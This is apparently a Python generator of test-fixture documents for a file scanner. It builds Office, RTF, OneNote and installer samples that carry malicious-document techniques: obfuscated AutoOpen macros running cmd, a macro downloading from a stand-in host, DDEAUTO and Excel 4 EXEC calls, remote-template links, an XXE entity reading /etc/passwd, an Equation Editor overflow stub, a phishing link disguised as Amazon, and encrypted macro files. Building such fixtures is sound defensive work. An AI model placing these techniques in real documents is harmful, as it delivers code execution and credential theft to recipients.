#!/usr/bin/python3
"""Writes the documents of tests/cases/office, rtf and onenote again.

usage: tests/make/office-cases.py [CASE…]     all when none is named

Everything in them is invented and does nothing: the macros are text that no Office would run from
here, the programs are a few letters.
"""

import base64
import hashlib
import struct
import subprocess
import sys
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from ole2 import CLASS, compound  # noqa: E402
from vba import project  # noqa: E402

CASES = Path(__file__).resolve().parent.parent / "cases"
MADE = {}


def case(name):
    def keep(make):
        MADE[name] = make
        return make

    return keep


def package(parts):
    """A zip whose bytes are the same each time."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 10, 1, 9, 0, 0)),
                       text.encode() if isinstance(text, str) else text, zipfile.ZIP_DEFLATED)
    return out.getvalue()


TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def relations(*items):
    """(type, target, external)"""
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if outside else "") + "/>"
        for i, (kind, target, outside) in enumerate(items, 1)
    )
    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{rows}</Relationships>')


def word(body, rels=(), more=None):
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations(("officeDocument", "word/document.xml", False)),
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{W}" xmlns:r="{REL}">'
                             f"<w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": relations(*rels),
    }
    return package(parts | (more or {}))


def p(text):
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def excel(sheets="", rels=(), more=None):
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{S}" xmlns:r="{REL}">{sheets}</workbook>',
        "xl/_rels/workbook.xml.rels": relations(*rels),
    }
    return package(parts | (more or {}))


def vba_bin(modules, **more):
    return compound({"VBA": project(modules, **more), "PROJECT": b'ID="{0}"\r\n'})


# --- macros -----------------------------------------------------------------------------------

HONEST = """Option Explicit

Private Sub Workbook_Open()
    Worksheets("集計").Activate
    ActiveWindow.Zoom = 90
End Sub

Sub 合計を出す()
    Dim r As Long, total As Currency
    For r = 2 To Cells(Rows.Count, 3).End(xlUp).Row
        total = total + Cells(r, 3).Value
    Next
    Range("E1").Value = total
    Range("E1").NumberFormat = "#,##0"
    MsgBox "合計は " & total & " 円です。", vbInformation, "請求書"
End Sub
"""

HOSTILE = """Sub AutoOpen()
    Dim a As String, b As String
    a = "cm" & Chr(100) & ".exe /c "
    b = StrReverse("clac")
    Shell a & b, 0
End Sub
"""

LOADS = """Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long
Private Sub Workbook_Open()
    Dim u As String
    u = Join(Array("http:", "", "files.example", "a.txt"), "/")
    URLDownloadToFile 0, u, Environ("TEMP") & "\\a.txt", 0, 0
End Sub
"""


@case("office/macro-honest/input.xlsm")
def macro_honest():
    return excel(more={"xl/vbaProject.bin": vba_bin({"ThisWorkbook": HONEST})})


@case("office/macro-runs/input.docm")
def macro_runs():
    return word(p("お見積書"), more={"word/vbaProject.bin": vba_bin({"NewMacros": HOSTILE})})


@case("office/macro-asks-to-enable/input.docm")
def macro_asks_to_enable():
    return word(INVOICE + p("集計を使うには、マクロを有効にしてください。"),
                more={"word/vbaProject.bin": vba_bin({"ThisDocument": HONEST.replace("Workbook", "Document")})})


@case("office/macro-loads/input.xls")
def macro_loads():
    return compound({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(12) + b"\x0a\x00\x00\x00",
                     "_VBA_PROJECT_CUR": {"VBA": project({"ThisWorkbook": LOADS})}})


@case("office/macro-slides/input.ppt")
def macro_slides():
    """A presentation keeps its project packed, in a record of its main stream."""
    inner = compound({"VBA": project({"Module1": HOSTILE})})
    packed = struct.pack("<I", len(inner)) + zlib.compress(inner)
    stream = struct.pack("<HHI", 0x10, 0x1011, len(packed)) + packed
    return compound({"PowerPoint Document": stream, "Current User": bytes(20)})


@case("office/macro-stomped/input.doc")
def macro_stomped():
    words = b"\0".join((b"", b"AutoOpen", b"Shell", b"CreateObject", b""))
    return compound({"WordDocument": bytes(64), "Macros": {
        "VBA": project({"ThisDocument": ""}, cache=bytes(900), compiled=words)}})


@case("office/macro-cut/input.doc")
def macro_cut():
    whole = compound({"Macros": {"VBA": project({"NewMacros": HOSTILE + "' 余白\n" * 40})},
                      "WordDocument": bytes(9000)})
    return whole[:-1024]  # the directory is gone, the macro is not


# --- what documents fetch ---------------------------------------------------------------------

INVOICE = "".join(map(p, (
    "請求書", "株式会社みほん商事 御中", "いつもお世話になっております。十月分のご請求をお送りします。",
    "合計金額は 132,000 円（税込）です。お支払い期限は十一月三十日です。",
    "ご不明な点は、いつもの担当までお電話ください。")))


@case("office/plain/input.docx")
def plain():
    return word(INVOICE, rels=(("hyperlink", "https://mihon.example.jp/", True),))


@case("office/wrong-extension/input.txt")
def wrong_extension():
    return macro_runs()


@case("office/part-cut/input.docx")
def part_cut():
    return plain()[:-400]


@case("office/template-web/input.docx")
def template_web():
    return word(p("ご案内"), more={"word/_rels/settings.xml.rels": relations(
        ("attachedTemplate", "http://templates.files.example/new.dotm", True))})


@case("office/template-near/input.docx")
def template_near():
    return word(INVOICE, more={"word/_rels/settings.xml.rels": relations(
        ("attachedTemplate", "file:///\\\\fileserver\\share\\letter.dotx", True))})


def mark(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(text):
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


@case("office/dde-field/input.docx")
def dde_field():
    return word(p("見積") + "<w:p>" + mark("begin") + code(' DDEAU') + code('TO c:\\\\windows\\\\cmd.exe "/k calc" ')
                + mark("separate") + mark("end") + "</w:p>")


@case("office/dde-quoted/input.docx")
def dde_quoted():
    numbers = " ".join(str(ord(c)) for c in 'DDEAUTO cmd "/k calc"')
    return word(p("見積") + "<w:p>" + mark("begin") + mark("begin") + code(f" QUOTE {numbers} ")
                + mark("end") + mark("end") + "</w:p>")


@case("office/dde-sheet/input.xlsx")
def dde_sheet():
    return excel(more={"xl/externalLinks/externalLink1.xml":
                       f'<?xml version="1.0"?><externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})


@case("office/dde-prices/input.xlsx")
def dde_prices():
    return excel(more={"xl/externalLinks/externalLink1.xml":
                       f'<?xml version="1.0"?><externalLink xmlns="{S}"><ddeLink ddeService="KABU" ddeTopic="0000.T"/></externalLink>'})


@case("office/object-outside/input.docx")
def object_outside():
    return word(p("資料"), rels=(("oleObject", "mhtml:http://files.example/a.html!x-usc:http://files.example/a.html", True),))


@case("office/picture-outside/input.docx")
def picture_outside():
    return word(INVOICE, rels=(("image", "http://img.example/1.png", True),))


@case("office/lure-link/input.docx")
def lure_link():
    link = ('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>https://www.amazon.co.jp/</w:t></w:r></w:hyperlink></w:p>')
    return word(p("アカウントが停止されました。下のリンクからログインして確認してください。") + link,
                rels=(("hyperlink", "http://198.51.100.7/login", True),))


@case("office/entities/input.docx")
def entities():
    xml = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return package({"[Content_Types].xml": TYPES, "word/document.xml":
                    xml + f'<w:document xmlns:w="{W}"><w:body>' + p("資料です。&b;&f;") + "</w:body></w:document>"})


# --- Excel 4 ----------------------------------------------------------------------------------


def record(number, body):
    return struct.pack("<HH", number, len(body)) + body


def bof(kind):
    return record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 6))


def text_token(text):
    return b"\x17" + bytes([len(text), 0]) + text.encode("latin-1")


def char_tokens(text):
    out = b""
    for i, c in enumerate(text):
        out += b"\x1e" + struct.pack("<H", ord(c)) + b"\x41" + struct.pack("<H", 111)
        out += b"\x08" if i else b""
    return out


def formula(tokens):
    return record(0x0006, bytes(20) + struct.pack("<H", len(tokens)) + tokens)


def call(number, count):
    return b"\x42" + bytes([count]) + struct.pack("<H", number)


def workbook(state, name, formulas):
    names = record(0x0018, struct.pack("<HBBHHHBBBB", 0x20 if isinstance(name, int) else 0, 0,
                   1 if isinstance(name, int) else len(name), 0, 0, 0, 0, 0, 0, 0) + b"\0"
                   + (bytes([name]) if isinstance(name, int) else name.encode())) if name else b""
    sheet = record(0x0085, struct.pack("<IBBB", 0, state, 1, 6) + b"\0Macro1")
    body = bof(5) + sheet + names + record(0x0A, b"") + bof(0x40)
    body += b"".join(map(formula, formulas)) + record(0x0A, b"")
    return compound({"Workbook": body + bytes(max(0, 4096 - len(body)))})


@case("office/xlm-runs/input.xls")
def xlm_runs():
    return workbook(2, 1, [char_tokens("cmd.exe /c calc") + call(110, 1)])


@case("office/xlm-old/input.xls")
def xlm_old():
    return workbook(0, None, [text_token("Total") + call(118, 1)])


@case("office/xlm-sheet/input.xlsm")
def xlm_sheet():
    formulas = ('=EXEC("powershe"&amp;"ll -c calc")', "=HALT()")
    cells = "".join(f'<row r="{i}"><c r="A{i}"><f>{f[1:]}</f></c></row>' for i, f in enumerate(formulas, 1))
    return excel(
        '<sheets><sheet name="M" sheetId="1" state="veryHidden" r:id="rId1"/></sheets>'
        '<definedNames><definedName name="_xlnm.Auto_Open_1">M!$A$1</definedName></definedNames>',
        rels=(("xlMacrosheet", "macrosheets/sheet1.xml", False),),
        more={"xl/macrosheets/sheet1.xml": f'<?xml version="1.0"?><m:macrosheet xmlns:m="urn:x" xmlns="{S}"><sheetData>{cells}</sheetData></m:macrosheet>'})


# --- objects ----------------------------------------------------------------------------------

EQUATION = bytes.fromhex("02ce020000000000c000000000000046")


def ole10(name, content):
    body = b"\x02\0" + name + b"\0C:\\a\\" + name + b"\0" + struct.pack("<I", 0x30000)
    path = b"C:\\b\\" + name + b"\0"
    body += struct.pack("<I", len(path)) + path + struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


def equation(font):
    return (struct.pack("<HIHIIIII", 28, 0x20000, 0xC000, 0, 0, 0, 0, 0)[:28]
            + b"\x03\x01\x01\x03\x0a\x0a\x01\x08\x5a\x5a" + font + b"\0")


SCRIPT = 'WScript.Echo "見本です"\r\n'.encode("cp932")


@case("office/object-script/input.docx")
def object_script():
    return word(p("明細はこちら"), more={"word/embeddings/oleObject1.bin": compound(
        {"\x01Ole10Native": ole10("明細.vbs".encode("cp932"), SCRIPT)})})


@case("office/object-table/input.docx")
def object_table():
    return word(INVOICE, more={"word/embeddings/table1.xlsx": excel()})


@case("office/object-macro/input.docx")
def object_macro():
    return word(INVOICE, more={"word/embeddings/inner.xlsm": excel(more={
        "xl/vbaProject.bin": vba_bin({"ThisWorkbook": LOADS})})})


@case("office/equation-attack/input.docx")
def equation_attack():
    return word(p("資料"), more={"word/embeddings/oleObject1.bin": compound(
        {CLASS: EQUATION, "Equation Native": equation(b"A" * 60)})})


@case("office/equation-honest/input.docx")
def equation_honest():
    return word(INVOICE, more={"word/embeddings/oleObject1.bin": compound(
        {CLASS: EQUATION, "Equation Native": equation(b"Symbol")})})


# --- binary Word ------------------------------------------------------------------------------


@case("office/dde-old/input.doc")
def dde_old():
    text = 'お見積り\r\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \x14\x15\r'
    body = text.encode("utf-16-le")
    head = bytearray(2048)
    struct.pack_into("<HHHHHH", head, 0, 0xA5EC, 193, 0, 0x411, 0, 0)
    struct.pack_into("<II", head, 0x18, 2048, 2048 + len(body))
    pieces = struct.pack("<II", 0, len(text)) + struct.pack("<HIH", 0, 2048, 0)
    clx = b"\x02" + struct.pack("<I", len(pieces)) + pieces
    struct.pack_into("<II", head, 0x01A2, 0, len(clx))
    return compound({"WordDocument": bytes(head) + body, "0Table": clx})


# --- locked -----------------------------------------------------------------------------------


def aes(key, data, iv=None):
    mode = ["-aes-%d-cbc" % (8 * len(key)), "-iv", iv.hex()] if iv else ["-aes-%d-ecb" % (8 * len(key))]
    return subprocess.run(["openssl", "enc", *mode, "-K", key.hex(), "-nopad"], input=data,
                          capture_output=True, check=True).stdout


def pad(data):
    return data + bytes(-len(data) % 16)


def agile(content, password, spins=1000):
    salt, key_salt, key = bytes(range(16)), bytes(range(16, 32)), hashlib.sha512(b"key").digest()[:32]
    h = hashlib.sha512(salt + password.encode("utf-16-le")).digest()
    for i in range(spins):
        h = hashlib.sha512(struct.pack("<I", i) + h).digest()

    def sealed(purpose, data):
        return base64.b64encode(aes(hashlib.sha512(h + bytes.fromhex(purpose)).digest()[:32], pad(data), salt)).decode()

    verifier = b"invented bytes.."
    common = ('saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
              'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"')
    info = (
        '<?xml version="1.0"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
        'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        f'<keyData {common} saltValue="{base64.b64encode(key_salt).decode()}"/><keyEncryptors><keyEncryptor>'
        f'<p:encryptedKey spinCount="{spins}" {common} saltValue="{base64.b64encode(salt).decode()}" '
        f'encryptedVerifierHashInput="{sealed("fea7d2763b4b9e79", verifier)}" '
        f'encryptedVerifierHashValue="{sealed("d7aa0f6d3061344e", hashlib.sha512(verifier).digest())}" '
        f'encryptedKeyValue="{sealed("146e0be7abacd0d6", key)}"/></keyEncryptor></keyEncryptors></encryption>')
    out = struct.pack("<Q", len(content))
    for i in range(0, len(content), 4096):
        iv = hashlib.sha512(key_salt + struct.pack("<I", i // 4096)).digest()[:16]
        out += aes(key, pad(content[i : i + 4096]), iv)
    return compound({"EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + info.encode(), "EncryptedPackage": out})


def standard(content, password):
    salt = bytes(range(16))
    h = hashlib.sha1(salt + password.encode("utf-16-le")).digest()
    for i in range(50000):
        h = hashlib.sha1(struct.pack("<I", i) + h).digest()
    h = hashlib.sha1(h + bytes(4)).digest()
    key = hashlib.sha1(bytes(0x36 ^ (h[i] if i < 20 else 0) for i in range(64))).digest()[:16]
    verifier = b"invented bytes.."
    header = struct.pack("<IIIIIIII", 0x24, 0, 0x660E, 0x8004, 128, 0x18, 0, 0) + "AES\0".encode("utf-16-le")
    info = struct.pack("<HHI", 4, 2, 0x24) + struct.pack("<I", len(header)) + header
    info += struct.pack("<I", 16) + salt + aes(key, verifier)
    info += struct.pack("<I", 20) + aes(key, pad(hashlib.sha1(verifier).digest()))
    return compound({"EncryptionInfo": info,
                     "EncryptedPackage": struct.pack("<Q", len(content)) + aes(key, pad(content))})


@case("office/locked-default/input.xlsm")
def locked_default():
    return agile(excel(more={"xl/vbaProject.bin": vba_bin({"ThisWorkbook": LOADS})}), "VelvetSweatshop")


@case("office/locked-standard/input.xlsx")
def locked_standard():
    return standard(excel(), "VelvetSweatshop")


@case("office/locked-mailed/input.eml")
def locked_mailed():
    content = base64.encodebytes(agile(macro_runs(), "mihon-2026")).decode()
    return ("From: sato@mihon.example.jp\nTo: tanaka@kaisha.example.jp\nSubject: estimate\n"
            "Date: Thu, 1 Oct 2026 09:00:00 +0900\nMessage-ID: <1@mihon.example.jp>\nMIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain; charset=utf-8\n'
            "Content-Transfer-Encoding: 8bit\n\n見積書をお送りします。\nパスワード：mihon-2026\n"
            '--b\nContent-Type: application/octet-stream; name="estimate.docm"\n'
            'Content-Disposition: attachment; filename="estimate.docm"\nContent-Transfer-Encoding: base64\n\n'
            f"{content}--b--\n").encode()


@case("office/locked/input.docx")
def locked():
    return agile(plain(), "a long and private word")


def rc4(key, data):
    box, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


def locked_stream(stream, key_of, lock):
    """Puts the record FILEPASS behind the first one and encrypts what follows."""
    first = 4 + struct.unpack_from("<H", stream, 2)[0]
    stream = stream[:first] + record(0x2F, lock) + stream[first:]
    keys = b"".join(rc4(key_of(n), bytes(1024)) for n in range(len(stream) // 1024 + 1))
    out, at = bytearray(stream), 0
    while at + 4 <= len(stream):
        number, size = struct.unpack_from("<HH", stream, at)
        clear = size if number in (0x809, 0x2F) else 4 if number == 0x85 else 0
        for i in range(at + 4 + clear, min(at + 4 + size, len(stream))):
            out[i] = stream[i] ^ keys[i]
        at += 4 + size
    return bytes(out)


def md5(data):
    return hashlib.md5(data).digest()


XLM = bof(5) + record(0x0085, struct.pack("<IBBB", 0, 1, 1, 6) + b"\0Macro1")
XLM += record(0x0018, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\x01") + record(0x0A, b"")
XLM += bof(0x40) + formula(text_token("cmd.exe /c calc") + call(110, 1)) + record(0x0A, b"") + bytes(4096)


@case("office/locked-rc4/input.xls")
def locked_rc4():
    salt, verifier = bytes(range(16)), b"invented bytes.."
    h = md5(("VelvetSweatshop".encode("utf-16-le")))[:5]
    h = md5((h + salt) * 16)[:5]

    def key_of(n):
        return md5(h + struct.pack("<I", n))

    sealed = rc4(key_of(0), verifier + md5(verifier))
    return compound({"Workbook": locked_stream(XLM, key_of, struct.pack("<HHH", 1, 1, 1) + salt + sealed)})


@case("office/locked-crypto-api/input.xls")
def locked_crypto_api():
    salt, verifier = bytes(range(16)), b"invented bytes.."
    h = hashlib.sha1(salt + "VelvetSweatshop".encode("utf-16-le")).digest()

    def key_of(n):
        return hashlib.sha1(h + struct.pack("<I", n)).digest()[:16]

    sealed = rc4(key_of(0), verifier + hashlib.sha1(verifier).digest())
    header = struct.pack("<IIIIIIII", 4, 0, 0x6801, 0x8004, 128, 1, 0, 0) + b"\0\0"
    lock = struct.pack("<HHHII", 1, 2, 2, 4, len(header)) + header + struct.pack("<I", 16) + salt
    lock += sealed[:16] + struct.pack("<I", 20) + sealed[16:]
    return compound({"Workbook": locked_stream(XLM, key_of, lock)})


# --- rich text --------------------------------------------------------------------------------


def rich(body):
    return b"{\\rtf1\\ansi\\ansicpg932\\uc1 {\\fonttbl{\\f0\\fcharset128 MS Gothic;}}" + body + b"}"


def shift_jis(text):
    return "".join(f"\\'{b:02x}" for b in text.encode("cp932")).encode()


def ole1(name, data):
    text = name + b"\0"
    return (struct.pack("<II", 0x501, 2) + struct.pack("<I", len(text)) + text + bytes(8)
            + struct.pack("<I", len(data)) + data)


def rich_object(data, before=b"", noise=b""):
    digits = data.hex().encode()
    return (b"{\\object\\objemb" + before + b"{\\*\\objdata " + digits[:40] + noise + digits[40:]
            + b"}{\\result " + shift_jis("表") + b"}}")


LETTER = shift_jis("いつもお世話になっております。十月分の請求書をお送りします。ご確認をお願いいたします。")


@case("rtf/plain/input.rtf")
def rich_plain():
    return rich(LETTER + b"\\par \\u26666?{\\*\\generator invented;}{\\field{\\*\\fldinst HYPERLINK \"https://mihon.example.jp/\"}{\\fldrslt "
                + shift_jis("みほん商事") + b"}}")


@case("rtf/equation/input.doc")
def rich_equation():
    return rich(LETTER + rich_object(ole1(b"Equation.3", equation(b"A" * 60)), b"\\objupdate", b"{\\*\\zzz 12}\r\n"))


@case("rtf/package/input.rtf")
def rich_package():
    return rich(LETTER + rich_object(ole1(b"Package", ole10(b"meisai.js", SCRIPT)[4:])))


@case("rtf/object-table/input.rtf")
def rich_table():
    return rich(LETTER + rich_object(ole1(b"Excel.Sheet.12", compound({"Package": excel()}))))


@case("rtf/link/input.doc")
def rich_link():
    url = "http://files.example/a.hta".encode("utf-16-le")
    return rich(LETTER + rich_object(ole1(b"OLE2Link", compound({"\x01Ole": bytes(40) + url + b"\0\0"})), b"\\objautlink\\objupdate"))


@case("rtf/template/input.rtf")
def rich_template():
    return rich(b"{\\*\\template http://templates.files.example/new.dotm}" + LETTER)


@case("rtf/dde/input.rtf")
def rich_dde():
    return rich(LETTER + b'{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"}}{\\fldrslt x}}')


@case("rtf/cut/input.rtf")
def rich_cut():
    whole = rich_package()
    return whole[: len(whole) * 9 // 10]


@case("rtf/wrong-extension/input.txt")
def rich_wrong():
    return rich_equation()


# --- OneNote ----------------------------------------------------------------------------------

SECTION = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
OBJECT = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")


def section(name=None, content=b""):
    out = SECTION + bytes(1008) + "打ち合わせメモ".encode("utf-16-le") + bytes(64)
    if name:
        out += b"\0\0" + name.encode("utf-16-le") + bytes(66)
        out += OBJECT + struct.pack("<Q", len(content)) + bytes(12) + content + bytes(-len(content) % 8)
    return out + bytes(64)


@case("onenote/plain/input.one")
def note_plain():
    return section()


@case("onenote/program/input.one")
def note_program():
    return section("請求書を表示.hta", b"<html><script>document.title='x'</script></html>")


@case("onenote/picture/input.one")
def note_picture():
    return section("写真.png", b"\x89PNG\r\n\x1a\n" + bytes(40))


@case("onenote/cut/input.one")
def note_cut():
    return note_program()[:-130]


@case("onenote/wrong-extension/input.doc")
def note_wrong():
    return note_program()


# --- Windows Installer ------------------------------------------------------------------------

INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")


def summary(page, **texts):
    """A property set: the code page, then texts by number (MS-OLEPS)."""
    values = [(1, struct.pack("<IHH", 2, page, 0))]
    for number, text in texts.items():
        data = text.encode("cp932") + b"\0"
        values.append((int(number[1:]), struct.pack("<II", 30, len(data)) + data + bytes(-len(data) % 4)))
    at, rows, body = 8 + 8 * len(values), b"", b""
    for number, value in values:
        rows += struct.pack("<II", number, at + len(body))
        body += value
    section = struct.pack("<II", at + len(body), len(values)) + rows + body
    return struct.pack("<HHI", 0xFFFE, 0, 0x20006) + bytes(16) + struct.pack("<I", 1) + bytes(16) + \
        struct.pack("<I", 48) + section


def installer(**more):
    said = summary(932, p2="Installation Database", p3="帳票かんたん印刷", p4="こだま工房", p18="Windows Installer XML")
    return compound({CLASS: INSTALLER, "\5SummaryInformation": said, "Tables": bytes(100), **more})


@case("msi/plain/input.msi")
def installer_plain():
    return installer()


@case("msi/signed/input.msi")
def installer_signed():
    return installer(**{"\5DigitalSignature": bytes(40)})


@case("msi/poses-as-document/input.pdf")
def installer_poses():
    return installer()


@case("msi/macro-besides/input.doc")
def installer_macro():
    """Word asks for its streams and not for the class of the root."""
    return installer(WordDocument=bytes(64), Macros={"VBA": project({"NewMacros": HOSTILE})})


@case("msg/macro-besides/input.doc")
def message_macro():
    return compound({"__properties_version1.0": bytes(32), "__substg1.0_0037001F": "納品".encode("utf-16-le"),
                     "WordDocument": bytes(64), "Macros": {"VBA": project({"NewMacros": HOSTILE})}})


@case("msg/macro-behind-a-name/input.doc")
def message_name():
    return compound({"__substg1.0_0037001F": b"", "WordDocument": bytes(64),
                     "Macros": {"VBA": project({"NewMacros": HOSTILE})}})


@case("msi/no-summary/input.msi")
def installer_bare():
    return compound({CLASS: INSTALLER, "\5SummaryInformation": b"\xfe\xff\0\0", "Tables": bytes(100)})


@case("msi/cut/input.msi")
def installer_cut():
    return installer()[:1400]


@case("msi/empty/input.msi")
def installer_empty():
    return b""


# --- writing ----------------------------------------------------------------------------------


def main():
    for name, make in MADE.items():
        if sys.argv[1:] and not any(a in name for a in sys.argv[1:]):
            continue
        path = CASES / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(make())
        print(f"{path.stat().st_size:6} {name}")


if __name__ == "__main__":
    main()
